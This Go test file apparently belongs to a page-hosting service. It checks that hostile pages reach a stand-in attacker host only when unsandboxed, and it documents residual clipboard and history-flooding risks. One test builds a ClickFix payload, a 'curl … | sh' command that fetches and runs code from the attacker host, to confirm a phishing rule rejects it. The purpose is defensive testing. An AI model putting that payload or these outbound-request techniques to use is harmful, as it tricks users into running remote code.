func TestBrowserHostilePagesWorkWithoutSandbox(t *testing.T) {
	t.Parallel()
	pages := []struct {
		name      string
		clicks    []string // elements of the page to click, in order
		requests  []string // paths that must reach the attacker
		downloads int      // files that must appear in the download folder
	}{
		{name: "02-top-navigation.html", requests: []string{"/x/top-location"}},
		{name: "03-frame-location.html", requests: []string{"/x/frame-location"}},
		{name: "03-frame-meta-refresh.html", requests: []string{"/x/frame-meta-refresh"}},
		{name: "03-frame-data-url.html", requests: []string{"/x/data-url-image", "/x/data-url-fetch", "/x/data-url-beacon"}},
		{name: "04-popups.html", requests: []string{"/x/popup-open"}},
		{name: "05-network.html", requests: []string{
			"/x/external-script.js", "/x/external-stylesheet.css", "/x/prefetch", "/x/preload-fetch",
			"/x/preload-script.js", "/x/preload-style.css", "/x/modulepreload.js", "/x/import.css",
			"/x/fetch", "/x/fetch-no-cors", "/x/fetch-keepalive", "/x/xhr", "/x/websocket", "/x/beacon",
			"/x/event-source", "/x/dynamic-import.js", "/x/script-element.js", "/x/prefetch-element",
		}},
		{name: "07-form-submit.html", requests: []string{"/x/form-submit"}},
		{name: "07-form-click.html", clicks: []string{"#submit"}, requests: []string{"/x/form-clicked"}},
		{name: "08-downloads.html", downloads: 1},
		{name: "08-download-navigation.html", downloads: 1},
		{name: "13-base-href.html", requests: []string{"/x/base/pixel.png", "/x/base/background.png"}},
		{name: "14-nested-frames.html", requests: []string{"/x/nested-iframe", "/x/srcdoc-image", "/x/srcdoc-fetch", "/x/object", "/x/embed", "/x/scripted-iframe"}},
	}
	for _, p := range pages {
		t.Run(strings.TrimSuffix(p.name, ".html"), func(t *testing.T) {
			t.Parallel()
			b := newBrowserEnv(t, published)
			b.evil.host(p.name, b.hostile(p.name))
			wrapper := b.evil.host("wrapper", []byte(`<!doctype html><title>wrapper</title>`+
				`<iframe src="/host/`+p.name+`" width="800" height="600"></iframe>`))
			b.navigate(t, wrapper)
			for _, sel := range p.clicks {
				// The framed page is same-origin with the wrapper here.
				poll(t, "the framed page", func() bool {
					return eval[bool](t, b.tab, `document.querySelector("iframe").contentDocument?.documentElement.dataset.ready === "1"`)
				})
				r := eval[box](t, b.tab, fmt.Sprintf(`(() => {
					const f = document.querySelector("iframe"), fr = f.getBoundingClientRect();
					const r = f.contentDocument.querySelector(%q).getBoundingClientRect();
					return {X: fr.x + f.clientLeft + r.x, Y: fr.y + f.clientTop + r.y, Width: r.width, Height: r.height};
				})()`, sel))
				b.click(t, r.X+r.Width/2, r.Y+r.Height/2)
			}
			poll(t, "the page to reach out", func() bool {
				return len(missing(p.requests, b.evil.requests())) == 0 && len(b.downloadedFiles(t)) >= p.downloads
			})
		})
	}
}

// missing returns the paths of want that no request in got asked for.
func missing(want []string, got []evilRequest) []string {
	var m []string
	for _, w := range want {
		if !slices.ContainsFunc(got, func(r evilRequest) bool {
			u, err := url.Parse(r.Path)
			return err == nil && u.Path == w
		}) {
			m = append(m, w)
		}
	}
	return m
}

// Known residuals (docs/security.md, "Residual risks"): what a custom page
// can still do inside the sandbox. They are proven here so that the
// documentation states facts; should one start failing, the browser has
// closed the gap and docs/security.md needs updating.

// A page may write the visitor's clipboard in a click: document.execCommand
// ("copy") is not behind the clipboard permission that the outer page's
// Permissions-Policy denies. The mitigation is htmlcheck's phishing.clipboard
// rule: the API rejects the ClickFix pattern (a clipboard write with
// paste-this instructions), as it does this page.
func TestBrowserResidualClipboardWriteAfterClick(t *testing.T) {
	t.Parallel()
	// The clipboard is the browser's, shared by every tab: one variant at a
	// time.
	for _, v := range variants {
		t.Run(string(v), func(t *testing.T) {
			b := newBrowserEnv(t, v)
			payload := "curl " + evilHost + "/" + fileframe.RandomBase62(8) + " | sh"
			html := b.hostile("residual-clipboard.html", "{{PAYLOAD}}", payload)
			if a := b.post(t, html); a.Status != http.StatusUnprocessableEntity || !slices.Contains(a.rules(), "phishing.clipboard") {
				t.Errorf("the API answered %d %v to the ClickFix page, want 422 with phishing.clipboard", a.Status, a.rules())
			}

			b.open(t, html)
			b.clickInFrame(t, "#verify")
			res := b.results(t)

			// Read the clipboard back from a page of the attacker's site,
			// which may read it.
			b.navigate(t, b.evil.host("reader", []byte(`<!doctype html><title>reader</title><p>reader</p>`)))
			b.callBrowser(t, func(ctx context.Context) error {
				_, err := chromedp.CallBrowser(ctx, browser.SetPermission, browser.SetPermissionParams{
					Permission: &browser.PermissionDescriptor{Name: "clipboard-read"}, Setting: browser.PermissionSettingGranted,
					Origin: b.evil.origin, BrowserContextID: b.browserContextID(),
				})
				return err
			})
			got := eval[string](t, b.tab, `navigator.clipboard.readText().catch(e => "cannot read: " + e)`)
			t.Logf("execCommand(copy) %s; the clipboard holds %q", res["execCommand copy"], got)
			if got != payload {
				t.Errorf("the clipboard holds %q, not the page's %q: has the residual gone? Update docs/security.md", got, payload)
			}
		})
	}
}

// A page may add entries to the tab's history (history flooding), so that
// Back seems not to leave. Every entry is the outer page, with its control.
func TestBrowserResidualHistoryFlooding(t *testing.T) {
	t.Parallel()
	forEachVariant(t, func(t *testing.T, b *browserEnv) {
		outer := b.open(t, b.hostile("residual-history.html"))
		res := b.results(t)
		history := run(t, b.tab, chromedp.NavigationEntries())
		flood := 0
		for _, e := range history.Entries {
			switch e.URL {
			case outer:
				flood++
			case "about:blank": // the new tab's first entry
			default:
				t.Errorf("a history entry leads to %s", e.URL)
			}
		}
		t.Logf("pushState: %s; the tab's history holds the outer page %d times", res["pushState"], flood)
		if flood < 21 {
			t.Errorf("the tab's history holds the outer page %d times, want 21 (1 + 20 pushed): has the residual gone? Update docs/security.md", flood)
		}
		if got := b.location(t); got != outer {
			t.Errorf("the top page is at %s, want %s", got, outer)
		}
	})
}
